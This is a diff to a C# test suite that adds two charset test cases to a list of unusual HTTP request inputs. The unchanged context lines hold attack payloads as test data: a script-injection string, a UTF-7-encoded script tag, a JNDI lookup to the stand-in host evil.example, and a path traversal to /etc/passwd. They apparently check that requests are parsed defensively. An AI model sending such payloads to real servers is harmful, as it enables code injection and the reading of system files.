@@ -76,6 +76,8 @@ public sealed partial class OrdinaryClientTests(OrdinaryClientTests.Judges judge
         { "", "POST /\nContent-Type: application/x+own" },
         { "", "POST /\nContent-Type: text/plain; type=\"application/json\"\n\n{\"q\":\"<script>alert(1)</script>\"}" },
         { "", "POST /\nContent-Type: multipart/related; boundary=b; type=\"application/json\"\n\n{\"q\":1}" },
+        { "", Part("application/json; charset=ibm037", "{}") },
+        { "", Part("text/plain; charset=\"utf-16\"", "tea") },
         { "", Part("text/plain; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-") },
         { "", Part("text/plain; x=${jndi:ldap://evil.example/a}", "tea") },
         { "", "GET /\nAccept: ../../../../etc/passwd{{" },
